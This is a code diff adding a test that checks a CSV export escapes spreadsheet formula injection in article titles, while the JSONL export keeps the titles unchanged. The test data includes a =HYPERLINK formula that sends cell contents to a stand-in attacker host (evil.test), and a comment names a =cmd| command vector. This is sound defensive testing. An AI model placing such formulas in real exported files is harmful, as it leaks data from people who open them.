@@ -146,3 +146,25 @@ def test_command_errors_are_one_line(db: Path, tmp_path: Path, args: list[str], 
     assert done.returncode == 1
     assert message in done.stderr
     assert len(done.stderr.strip().splitlines()) == 1 and "Traceback" not in done.stderr
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    """Titles are written by the pages' authors: one starting with =, +, -, @ or a tab would be a
+    live formula in a spreadsheet (=HYPERLINK to exfiltrate a row, =cmd|...). In CSV each such
+    cell gets a leading apostrophe; JSONL keeps the text exact."""
+    path = tmp_path / "store.sqlite3"
+    titles = ['=HYPERLINK("https://evil.test/?"&A1,"انقر")', "+1-2", "-2+3", "@SUM(A1:A9)", "\tعنوان", "\rعنوان",
+              "عنوان = عادي"]
+    s = ArticleStore(f"sqlite:///{path}")
+    s.upsert_many([row(n, "north", "2024-05-01", title=t, authors=["=1+1"]) for n, t in enumerate(titles)])
+    export(s, "csv", tmp_path / "out.csv")
+    export(s, "jsonl", tmp_path / "out.jsonl")
+    s.close()
+    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as fh:
+        cells = {r["url"]: r for r in csv.DictReader(fh)}
+    for n, title in enumerate(titles):
+        cell = cells[f"https://north.test/news/{n}"]["title"]
+        assert cell == (title if n == 6 else "'" + title)
+        assert cells[f"https://north.test/news/{n}"]["authors"] == '["=1+1"]'  # JSON text starts with [
+    exact = [json.loads(x)["title"] for x in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
+    assert sorted(exact) == sorted(titles)
